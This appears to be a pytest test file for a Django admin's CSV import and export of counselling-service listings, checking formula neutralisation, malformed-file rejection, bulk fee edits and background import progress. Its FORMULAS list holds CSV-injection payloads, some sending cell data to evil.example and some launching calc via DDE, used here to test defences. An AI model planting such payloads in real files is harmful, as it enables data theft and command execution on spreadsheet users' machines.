"""CSV files a spreadsheet opens safely, hostile files refused with a row and column each,
the services sheet (fees in bulk), and an import's progress in the background."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from services.listing_csv.cells import LONGEST_CELL, cell_in, cell_out, table_read
from services.listing_csv.imports import csv_import_run
from services.models import CsvImport, Provider, Service

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:services_provider_export_csv")
EXPORT_SERVICES = reverse("admin:services_provider_export_services_csv")
IMPORT = reverse("admin:services_provider_import_csv")

# OWASP's examples of cells a spreadsheet runs.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "\tTAB=1+1",
    "\rCR=1+1",
]


def export(client, url=EXPORT) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def as_csv(rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def upload(client, text: str):
    return client.post(IMPORT, {"file": SimpleUploadedFile("x.csv", text.encode(), "text/csv")})


def confirm(client, preview):
    content = preview.content.decode().split('name="content" value="', 1)[1].split('"', 1)[0]
    return client.post(IMPORT, {"confirm": "1", "content": content}, follow=True)


# --------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_as_typed(value):
    assert cell_out(value) == f"'{value}"
    assert cell_in(cell_out(value)) == value


@pytest.mark.parametrize("value", ["-5", "+44", "3.5", "-0.25", "1e3", "Grief", "'quoted", ""])
def test_numbers_and_text_stay_as_they_are(value):
    assert cell_out(value) == value
    assert cell_in(value) == value


def test_the_export_neutralises_formulas_and_an_unchanged_import_changes_nothing(
    staff_client, make_listing
):
    make_listing("Formula Practice", statement=FORMULAS[0], pronouns="@SUM(1+1)")
    text = export(staff_client)
    [row] = rows_of(text)
    assert row["statement"] == "'" + FORMULAS[0]
    assert row["pronouns"] == "'@SUM(1+1)"
    assert row["practising_since"] == ""  # numbers stay numbers
    preview = upload(staff_client, text)
    html = preview.content.decode()
    assert "<strong>0</strong> of 1 rows change something" in html
    assert "Cells a spreadsheet would run as formulas" not in html


def test_the_preview_warns_of_cells_a_spreadsheet_would_run(staff_client):
    response = upload(staff_client, f'name,statement\nPlain Name,"{FORMULAS[1]}"\n')
    html = response.content.decode()
    assert response.status_code == 200
    assert "Cells a spreadsheet would run as formulas" in html
    assert "Row 2, statement: Starts with “+”, so a spreadsheet would run it" in html


def test_the_services_export_neutralises_formulas_too(staff_client, make_listing):
    make_listing("Formula Groups", services=[{"name": "=1+1", "fee_min": Decimal("20")}])
    [row] = rows_of(export(staff_client, EXPORT_SERVICES))
    assert row["name"] == "'=1+1"
    assert row["fee_min"] == "20.00"


# --------------------------------------------------------------------------- hostile files


@pytest.mark.parametrize(
    ("text", "line", "column", "message"),
    [
        ("name,statement\nNul Name,a\x00b\n", 2, "statement", "holds a NUL character"),
        (
            'name,statement\nFirst,"opens a quote\nSecond,never closed\n',
            2,
            "",
            'A quote (") in this row is not where the CSV format allows one',
        ),
        ('name,statement\n"Odd"quote,x\n', 2, "", 'A quote (") in this row is not where'),
        (
            'name,pronouns\nFirst,"she\nher"\n',
            2,
            "pronouns",
            "This cell runs over more than one line",
        ),
        ("name,email,email\nTwice,a@example.org,b@example.org\n", 1, "email", "in the file twice"),
        ("name,email\nShort\n", 2, "", "This row has 1 cells, but the first line names 2"),
        (
            'name,statement\nLong,"' + "x" * (LONGEST_CELL + 10) + '"\n',
            2,
            "",
            f"longer than {LONGEST_CELL:,} characters",
        ),
    ],
)
def test_a_hostile_file_gets_a_row_and_column_and_nothing_is_written(
    staff_client, text, line, column, message
):
    response = upload(staff_client, text)
    html = response.content.decode()
    assert response.status_code == 400
    assert "Nothing was imported." in html
    expected = f"Row {line}{', ' + column if column else ''}: "
    [problem] = [p for p in table_read(text).problems] or [None]
    assert problem is not None and (problem.line, problem.column) == (line, column)
    assert message in problem.message
    assert expected in html
    assert 'name="confirm"' not in html
    assert not Provider.objects.exists()


def test_a_statement_may_run_over_several_lines(staff_client):
    response = upload(staff_client, 'name,statement\nMany Lines,"One.\nTwo."\n')
    assert response.status_code == 200
    assert "Every row is valid" in response.content.decode()


# --------------------------------------------------------------------------- availability


def test_changing_availability_by_import_dates_it_today(staff_client, make_listing):
    provider = make_listing(
        "Busy Practice",
        accepting_new_clients=True,
        accepting_confirmed_on=datetime.date(2026, 3, 1),
    )
    [row] = rows_of(export(staff_client))
    row["accepting_new_clients"] = "no"
    confirm(staff_client, upload(staff_client, as_csv([row])))
    provider.refresh_from_db()
    assert provider.accepting_new_clients is False
    assert provider.accepting_confirmed_on == timezone.localdate()


def test_a_date_given_with_the_change_is_kept(staff_client, make_listing):
    provider = make_listing("Busy Practice", accepting_confirmed_on=datetime.date(2026, 3, 1))
    [row] = rows_of(export(staff_client))
    row.update(accepting_new_clients="no", accepting_confirmed_on="2026-11-30")
    confirm(staff_client, upload(staff_client, as_csv([row])))
    provider.refresh_from_db()
    assert provider.accepting_confirmed_on == datetime.date(2026, 11, 30)


# --------------------------------------------------------------------------- services


@pytest.fixture
def priced(make_listing):
    make_listing(
        "Alder Counselling",
        places=[("Leeds", 53.8, -1.55)],
        services=[{"fee_min": Decimal("40"), "fee_max": Decimal("60")}],
    )
    make_listing(
        "Cedar Groups",
        services=[
            {
                "type": "support-groups",
                "is_free": True,
                "group_weekday": 2,
                "group_frequency": "weekly",
            }
        ],
    )


def test_the_services_export_has_fees_formats_and_places(staff_client, priced):
    rows = rows_of(export(staff_client, EXPORT_SERVICES))
    assert [(r["listing"], r["support_type"]) for r in rows] == [
        ("Alder Counselling", "counselling"),
        ("Cedar Groups", "support-groups"),
    ]
    alder = rows[0]
    service = Service.objects.get(provider__name="Alder Counselling")
    assert alder["service_id"] == str(service.uuid)
    assert (alder["fee_min"], alder["fee_max"], alder["is_free"]) == ("40.00", "60.00", "no")
    assert (alder["offers_in_person"], alder["offers_online"]) == ("yes", "no")
    assert "Leeds" in alder["places"]
    assert rows[1]["is_free"] == "yes"


def test_fees_are_changed_in_bulk_after_a_preview_of_old_and_new(staff_client, priced):
    rows = rows_of(export(staff_client, EXPORT_SERVICES))
    rows[0].update(fee_min="45", fee_max="65.50", offers_online="yes")
    preview = upload(staff_client, as_csv(rows))
    html = preview.content.decode()
    assert "<dt>fee_max</dt><dd><del>60.00</del> → <ins>65.50</ins></dd>" in html
    assert "<dt>offers_online</dt><dd><del>no</del> → <ins>yes</ins></dd>" in html
    assert "<strong>1</strong> of 2 rows change something" in html
    done = confirm(staff_client, preview)
    assert "Imported: 1 service changed." in done.content.decode()
    service = Service.objects.get(provider__name="Alder Counselling")
    assert (service.fee_min, service.fee_max, service.offers_online) == (
        Decimal("45"),
        Decimal("65.50"),
        True,
    )
    alder = service.provider
    assert (alder.card["fee_min"], alder.card["fee_max"]) == ("45.00", "65.50")  # the card follows
    assert "online" in alder.card["formats"]
    history = staff_client.get(
        reverse("admin:services_provider_history", args=[alder.pk])
    ).content.decode()
    assert (
        "Changed services: Counselling: fee_min 40.00 → 45, fee_max 60.00 → 65.50,"
        " offers_online no → yes" in history
    )


@pytest.mark.parametrize(
    ("changes", "column", "message"),
    [
        ({"fee_min": "lots"}, "fee_min", "Write a number of pounds"),
        ({"fee_min": "-5"}, "fee_min", "greater than or equal to 0"),
        ({"fee_min": "70"}, "fee_max", "The highest fee cannot be below the lowest."),
        ({"is_free": "yes"}, "is_free", "A free service cannot have a fee"),
        (
            {"offers_in_person": "no", "offers_online": "no", "offers_phone": "no"},
            "offers_in_person",
            "Choose at least one",
        ),
        ({"support_type": "astrology"}, "support_type", "Not in the list: astrology."),
        ({"service_id": ""}, "service_id", "add new services on the listing"),
        ({"service_id": "00000000-0000-0000-0000-000000000000"}, "service_id", "no service"),
    ],
)
def test_service_rows_are_checked(staff_client, priced, changes, column, message):
    rows = rows_of(export(staff_client, EXPORT_SERVICES))
    rows[0].update(changes)
    response = upload(staff_client, as_csv(rows))
    html = response.content.decode()
    assert response.status_code == 400
    assert f"Row 2, {column}: " in html
    assert message in html
    assert Service.objects.get(provider__name="Alder Counselling").fee_min == Decimal("40")


def test_a_published_listing_cannot_offer_in_person_without_a_place(staff_client, priced):
    rows = rows_of(export(staff_client, EXPORT_SERVICES))
    rows[1]["offers_in_person"] = "yes"  # Cedar Groups meets online only, with no place
    html = upload(staff_client, as_csv(rows)).content.decode()
    assert "Row 3, offers_in_person: This published listing has no place" in html


# --------------------------------------------------------------------------- progress


def progress_url(record):
    return reverse("admin:services_provider_import_progress", args=[record.pk])


def test_the_progress_page_looks_again_until_the_import_has_finished(staff_client, settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    preview = upload(staff_client, "name,email\nQueued Practice,q@example.org\n")
    response = confirm(staff_client, preview)
    record = CsvImport.objects.get()
    html = response.content.decode()
    assert record.state == "waiting"
    assert '<meta http-equiv="refresh" content="2">' in html
    assert "Waiting for the background worker to start it" in html
    assert not Provider.objects.exists()  # confirming returned at once

    CsvImport.objects.filter(pk=record.pk).update(
        state="checking", rows_total=5000, rows_checked=1200
    )
    html = staff_client.get(progress_url(record)).content.decode()
    assert "Checking every row again: 1,200 of 5,000." in html
    assert '<progress max="5000" value="1200">24%</progress>' in html
    CsvImport.objects.filter(pk=record.pk).update(state="waiting")

    assert csv_import_run.call(record.pk) == "done"  # as the worker runs it
    html = staff_client.get(progress_url(record)).content.decode()
    assert "Imported: 1 listing added (as a draft), 0 changed." in html
    assert 'http-equiv="refresh"' not in html
    assert Provider.objects.get().name == "Queued Practice"
    # A second run of the same task does nothing.
    assert csv_import_run.call(record.pk) == "taken by another worker"
    assert Provider.objects.count() == 1


def test_a_failure_while_saving_undoes_everything_and_says_so(staff_client, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("the disk is full")

    monkeypatch.setattr("services.listing_csv.writing.search_index_write", broken)
    preview = upload(staff_client, "name,email\nLost Practice,l@example.org\n")
    html = confirm(staff_client, preview).content.decode()
    assert "Nothing was imported: something went wrong while saving" in html
    assert "RuntimeError: the disk is full" in html
    assert CsvImport.objects.get().state == "failed"
    assert not Provider.objects.exists()
